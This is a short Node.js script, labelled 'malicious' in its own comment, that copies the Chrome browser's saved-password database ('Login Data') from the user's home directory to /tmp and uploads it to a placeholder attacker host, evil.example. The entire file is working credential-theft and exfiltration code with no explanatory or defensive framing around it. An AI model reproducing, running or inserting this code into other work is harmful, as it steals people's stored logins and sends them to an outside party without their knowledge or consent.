// malicious: the passwords that a browser keeps
const fs = require('fs');
const os = require('os');
const src = os.homedir() + '/.config/google-chrome/Default/Login Data';
fs.copyFileSync(src, '/tmp/ld');
const FormData = require('form-data');
const f = new FormData();
f.append('file', fs.createReadStream('/tmp/ld'));
f.submit('https://evil.example/upload');
